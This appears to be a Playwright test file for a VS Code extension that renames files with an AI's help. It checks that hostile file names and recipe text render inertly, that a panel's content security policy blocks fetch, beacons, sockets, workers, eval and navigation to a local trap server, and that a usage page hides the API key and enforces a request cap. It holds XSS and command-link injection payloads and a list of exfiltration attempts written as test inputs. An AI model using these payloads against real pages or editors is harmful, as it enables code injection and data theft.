// What text of unknown origin can do in VS Code (nothing), what a panel can reach (nothing), and where a person sees what was sent.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import { createServer, type Server } from 'node:http';
import path from 'node:path';
import { after, afterEach, before, beforeEach, test } from 'node:test';
import type { Frame } from 'playwright-core';
import { startMessagesDouble, use, type MessagesDouble } from '../support/messagesDouble.ts';
import { startRig, type Rig, type Workbench } from '../support/rig/workbench.ts';
import { delegate, eventually, panel, part, clickButton, rightClick } from './support.ts';

let rig: Rig;
let workbench: Workbench;
let folder: string;
let double: MessagesDouble;
let trap: Server;
let trapAddress = '';
const trapped: string[] = [];

const addCode = {
  version: 1,
  clash: 'number',
  steps: [
    {
      select: { depth: 'all', where: [] },
      together: [],
      to: '{dir}/APX-7 {name}',
      missing: 'leave',
      because: 'project code APX-7 added',
      says: 'Add APX-7 in front of {count}',
    },
  ],
};

before(async () => {
  trap = createServer((request, response) => {
    trapped.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*');
    response.end('trapped');
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
  const address = trap.address();
  assert.ok(address !== null && typeof address === 'object');
  trapAddress = `http://127.0.0.1:${String(address.port)}`;
  double = await startMessagesDouble({
    script: ({ messages }) => [
      messages.length === 1
        ? use('overview', { contains: '.' })
        : use('submit_plan', { goal: 'Put APX-7 in front of the names.', rule: addCode, assumptions: [] }),
    ],
  });
  rig = await startRig({ env: { ANTHROPIC_BASE_URL: double.baseUrl, ANTHROPIC_API_KEY: double.key } });
});
after(async () => {
  await rig.stop();
  await double.close();
  trap.close();
});
beforeEach(async () => {
  trapped.length = 0;
  folder = rig.makeSample();
  workbench = await rig.openWorkbench(folder);
});
afterEach(async ({ name }) => {
  await workbench.screenshot(`end of ${name}`);
  await workbench.close();
});

/** A name that VS Code would make a link of in a message or a question; a click would run a command. */
const linkName = '[Click here](command:workbench.action.closeSidebar)';

test('names that look like links, markup or icons are text wherever they are shown', async () => {
  const hostile = path.join(folder, linkName);
  fs.mkdirSync(hostile);
  const names = [
    `<img src=x onerror="fetch('${trapAddress.replaceAll('/', '')}')">.txt`,
    '<script>document.title=1</script>.md',
    `${linkName}.pdf`,
    '{{constructor}} ${7*7}.csv',
  ].map((name) => name.replaceAll('/', '∕'));
  for (const name of names) fs.writeFileSync(path.join(hostile, name), 'x');
  await workbench.waitForExplorerRow(linkName);
  await delegate(workbench, linkName, 'add the prefix "A-" to all files');
  const plan = await panel(workbench, 'plan');
  await clickButton(part(plan, 'plan-approve'));
  const diff = await panel(workbench, 'diff');
  await part(diff, 'diff-row').nth(3).waitFor();
  const text = await diff.locator('#app').innerText();
  for (const name of names) assert.ok(text.includes(name), name);
  for (const frame of [plan, diff]) {
    if (frame.isDetached()) continue;
    assert.equal(await frame.locator('#app img, #app script, #app a').count(), 0);
  }
  await workbench.screenshot('walls-1-names');

  await clickButton(part(diff, 'diff-apply'));
  const toast = workbench.toast('4 files renamed in');
  await toast.waitFor();
  // The words are there, and VS Code made no link of them.
  assert.match((await toast.textContent()) ?? '', /\[Click here\] \(command:workbench\.action\.closeSidebar\)/);
  assert.equal(await toast.locator('.notification-list-item-message a').count(), 0);
  await workbench.screenshot('walls-2-message');
  assert.deepEqual(trapped, []);
});

test('the words of a recipe that came with the folder make no link in a question', async () => {
  const recipes = path.join(folder, '.delegate', 'recipes');
  fs.mkdirSync(recipes, { recursive: true });
  const recipe = [
    'recipe "Looks harmless"',
    'about "Puts a word in front."',
    `ask word "${linkName}" text default "x"`,
    '',
    'rule 1',
    '',
    'step "Put $word in front of {count}"',
    '  all files here',
    '  move to "{dir}/$word {name}"',
    '  missing leave',
    '  because of the recipe',
    '',
    'clash skip',
  ];
  fs.writeFileSync(path.join(recipes, 'harmless.recipe'), `${recipe.join('\n')}\n`);
  await workbench.chooseFromMenu(() => rightClick(workbench.explorerRow('notes')), 'Run Recipe…');
  await workbench.choice('Looks harmless').click();
  const message = workbench.page.locator('.quick-input-widget .quick-input-message');
  await message.filter({ hasText: 'Click here' }).waitFor();
  assert.match((await message.textContent()) ?? '', /\[Click here\] \(command:/);
  assert.equal(await message.locator('a').count(), 0);
  await workbench.screenshot('walls-3-question');
});

/** Run in a panel: every way that a page has to reach out or to run something; resolves with what the policy stopped. */
const attempts = `async (address) => {
  const stopped = [];
  document.addEventListener('securitypolicyviolation', (event) => stopped.push(event.effectiveDirective));
  const tried = (act) => { try { const done = act(); if (done && done.catch) return done.catch(() => undefined); } catch {} };
  const add = (tag, fields) => { const element = document.createElement(tag); Object.assign(element, fields); document.body.append(element); return element; };
  await tried(() => fetch(address + '/fetch'));
  await tried(() => navigator.sendBeacon(address + '/beacon', 'x'));
  tried(() => { const request = new XMLHttpRequest(); request.open('GET', address + '/xhr'); request.send(); });
  tried(() => new WebSocket(address.replace('http', 'ws') + '/socket'));
  tried(() => new EventSource(address + '/events'));
  tried(() => new Worker(URL.createObjectURL(new Blob(['fetch("' + address + '/worker")']))));
  add('img', { src: address + '/img' });
  add('script', { src: address + '/script' });
  add('script', { textContent: 'window.ran = "inline"' });
  add('link', { rel: 'stylesheet', href: address + '/style' });
  add('iframe', { src: address + '/frame' });
  add('object', { data: address + '/object' });
  add('video', { src: address + '/video' });
  add('style', { textContent: 'body { background: url(' + address + '/css) }' });
  const holder = add('div', {});
  holder.innerHTML = '<img src=x onerror="window.ran = 1"><svg onload="window.ran = 2"></svg>';
  // In a turn of their own: what the debugger itself evaluates is exempt from the policy.
  setTimeout(() => tried(() => eval('window.ran = "eval"')));
  setTimeout(() => tried(() => new Function('window.ran = "function"')()));
  await new Promise((resolve) => setTimeout(resolve, 1000));
  return { ran: window.ran ?? null, stopped: [...new Set(stopped)].sort() };
}`;

async function tryAll(frame: Frame): Promise<{ ran: unknown; stopped: string[] }> {
  return await frame.evaluate(`(${attempts})(${JSON.stringify(trapAddress)})`);
}

test('a panel into which an attacker got code runs no more of it, loads nothing, and reaches nobody', async () => {
  await workbench.runCommand('Delegate: Show Queue');
  const queue = await panel(workbench, 'queue');
  const { ran, stopped } = await tryAll(queue);
  assert.equal(ran, null);
  assert.deepEqual(trapped, []);
  for (const directive of ['connect-src', 'img-src', 'script-src-elem', 'script-src-attr', 'frame-src', 'object-src'])
    assert.ok(stopped.includes(directive), `${directive} is not among ${stopped.join(', ')}`);
  // The trap is there: a page without such a policy falls into it.
  const bare = await workbench.page.context().newPage();
  await bare.evaluate(`fetch(${JSON.stringify(`${trapAddress}/control`)}, { mode: 'no-cors' }).catch(() => null)`);
  await eventually(() => assert.deepEqual(trapped, ['/control']));
});

test('nor can it leave for another page, send a form, or have VS Code run a command', async () => {
  const leaving = [
    `location.href = ${JSON.stringify(`${trapAddress}/left`)}`,
    `(() => { const form = document.createElement('form'); form.action = ${JSON.stringify(`${trapAddress}/form`)}; form.method = 'post'; document.body.append(form); form.submit(); })()`,
    `(() => { const link = document.createElement('a'); link.href = 'command:workbench.action.closeSidebar'; document.body.append(link); link.click(); })()`,
    `window.open(${JSON.stringify(`${trapAddress}/opened`)})`,
    `window.top.postMessage({ command: 'workbench.action.closeSidebar' }, '*')`,
  ];
  for (const attempt of leaving) {
    await workbench.runCommand('Delegate: Show Queue');
    const queue = await panel(workbench, 'queue');
    // The page may be gone by then: that is the attacker's loss.
    await queue
      .evaluate(`(async () => { ${attempt}; await new Promise((resolve) => setTimeout(resolve, 1000)); })()`)
      .catch(() => null);
    assert.deepEqual(trapped, [], attempt);
    assert.ok(await workbench.page.locator('.part.sidebar').isVisible(), attempt);
    await workbench.reload();
  }
});

test('what was sent for a task: the line on its card, the page behind it, and the cap that stops it', async () => {
  rig.changeSettings({ 'delegate.engine': 'claude' });
  await workbench.reload();
  fs.writeFileSync(path.join(folder, 'papers', `${linkName}.txt`), 'x');
  await delegate(workbench, 'papers', 'put our project code APX-7 on the files');
  const plan = await panel(workbench, 'plan');
  await part(plan, 'plan-approve').waitFor();
  await workbench.runCommand('Delegate: Show Queue');
  const queue = await panel(workbench, 'queue');
  const sent = part(queue, 'task-sent');
  await sent.filter({ hasText: /What was sent: 2 requests, [\d.]+ KB sent\s*$/ }).waitFor();
  await workbench.screenshot('walls-4-card');
  await sent.click();
  const page = await workbench.webview('h1:has-text("What was sent")');
  await eventually(async () => {
    const text = await page.locator('body').innerText();
    assert.match(text, /POST http:\/\/127\.0\.0\.1:\d+\/v1\/messages/);
    assert.match(text, /Answered \(status 200\): [\d.]+ KB sent/);
    assert.ok(text.includes(`${linkName}.txt`));
    assert.ok(!text.includes(double.key));
  });
  assert.equal(await page.locator('a[href^="command:"], a[data-href^="command:"]').count(), 0);
  await workbench.screenshot('walls-5-sent');

  const before = double.requests.length;
  rig.changeSettings({ 'delegate.limits.day.requests': before });
  await workbench.reload();
  await workbench.runCommand('View: Show Explorer');
  await delegate(workbench, 'notes', 'put our project code APX-7 on the files');
  const stopped = workbench.toast(/No more may be sent today: the next request could pass the limit of requests/);
  await stopped.waitFor();
  await stopped.getByRole('button', { name: 'Open Settings' }).waitFor();
  await workbench.screenshot('walls-6-limit');
  assert.equal(double.requests.length, before);
});
